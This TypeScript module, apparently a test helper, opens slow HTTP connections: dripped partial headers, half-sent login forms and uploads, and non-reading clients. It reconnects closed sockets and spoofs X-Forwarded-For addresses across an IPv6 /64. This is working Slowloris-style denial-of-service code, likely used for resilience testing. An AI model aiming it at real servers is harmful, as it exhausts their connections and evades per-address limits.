import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

/** How often each sends one more byte, and the pause before it reconnects. */
const DRIP_MS = 2_000
const AGAIN_MS = 1_000

const kinds = ['half head', 'half form', 'half upload', 'slow reader'] as const
type Kind = (typeof kinds)[number]

type Attack = {
  /** How many connections are held open at any time. */
  connections: number
  /** A loopback address, from which the connections come. */
  address: string
  /** The first four groups of an IPv6 network, as a trusted proxy names it. */
  network: string
  /** The Cookie header of an account that may upload files. */
  cookie: string
  trek: string
}

/**
 * Opens slow connections: half heads, half forms, half uploads and readers that do not read, a quarter of each. Half heads come
 * from one address, the others alternate between it and one /64. A closed connection reconnects.
 */
export function startSlowClients(url: string, attack: Attack) {
  const counted = { begun: 0, statuses: {} as Record<string, number> }
  const open = new Set<Socket>()
  let stopped = false

  const hold = async (index: number) => {
    const kind = kinds[index % kinds.length] as Kind
    const isOfNetwork = kind !== 'half head' && Math.floor(index / kinds.length) % 2 === 1
    const localAddress = isOfNetwork ? '127.0.0.1' : attack.address
    while (!stopped) {
      const from = isOfNetwork
        ? `X-Forwarded-For: ${attack.network}::${(counted.begun++ % 65_000).toString(16)}\r\n`
        : ''
      if (!isOfNetwork) counted.begun += 1
      await one(kind, headOf(kind, from, attack), localAddress)
      if (!stopped) await pause(AGAIN_MS)
    }
  }

  /** Settles when the connection is closed. */
  const one = (kind: Kind, head: string, localAddress: string) =>
    new Promise<void>((over) => {
      const { hostname, port } = new URL(url)
      const socket = connect({ host: hostname, port: Number(port), localAddress })
      open.add(socket)
      socket.once('connect', () => socket.write(head))
      const drip = setInterval(() => socket.write(kind === 'half head' ? 'X-A: b\r\n' : 'x'), DRIP_MS)
      if (kind === 'slow reader') clearInterval(drip)
      else
        socket.on('data', (answer: Buffer) => {
          const status = /^HTTP\/1.1 (\d+)/.exec(answer.toString('latin1', 0, 20))?.[1] ?? '?'
          counted.statuses[status] = (counted.statuses[status] ?? 0) + 1
        })
      socket.on('error', () => {})
      socket.once('close', () => {
        clearInterval(drip)
        open.delete(socket)
        over()
      })
      // A client that does not read does not notice the end either.
      if (kind === 'slow reader') socket.pause()
      else socket.once('end', () => socket.destroy())
    })

  const holding = Promise.all(Array.from({ length: attack.connections }, (_, index) => hold(index)))
  return Object.assign(counted, {
    open: () => open.size,
    async stop(): Promise<void> {
      stopped = true
      for (const socket of open) socket.destroy()
      await holding
    },
  })
}

function headOf(kind: Kind, from: string, { cookie, trek }: Attack): string {
  const common = `Host: site\r\n${from}`
  if (kind === 'half head') return `GET / HTTP/1.1\r\n${common}`
  if (kind === 'slow reader') return `GET ${trek} HTTP/1.1\r\n${common}Accept-Encoding: identity\r\n\r\n`
  if (kind === 'half form')
    return `POST /login HTTP/1.1\r\n${common}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 300\r\n\r\nemail=a`
  return `POST /account HTTP/1.1\r\n${common}Cookie: ${cookie}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 4000000\r\n\r\n--x\r\n`
}
